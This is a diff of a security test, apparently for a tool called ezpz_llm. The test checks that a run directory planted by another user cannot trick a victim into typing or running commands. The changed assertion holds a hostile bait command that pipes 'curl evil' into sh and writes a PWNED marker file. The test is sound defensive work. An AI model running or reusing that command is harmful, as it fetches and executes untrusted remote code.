@@ -300,7 +300,8 @@ def test_a_run_of_another_user_has_nothing_typed_or_run(strangers: Strangers, tr
     # Like a reader without access to the ranks' records.
     assert attacker.python(_BAIT, attacker.home / "r").returncode == 0
     done = attacker.run(sys.executable, "-m", "ezpz_llm.why", "r")
-    assert "  resume: launch -n 1 sh -c 'curl evil | sh; echo PWNED > pwned' --resume" in done.stdout, done
+    resume = f"  resume: launch --run-dir {attacker.home}/r -n 1 sh -c 'curl evil | sh; echo PWNED > pwned'"
+    assert resume in done.stdout, done
     assert victim.launch("-n", "1", "--run-dir", "mine", "true").returncode == 0
     exchange = attacker.start(sys.executable, "-c", _EXCHANGE, "r", victim.home / "mine", "other")
     assert exchange.stdout.readline() == "ready\n"
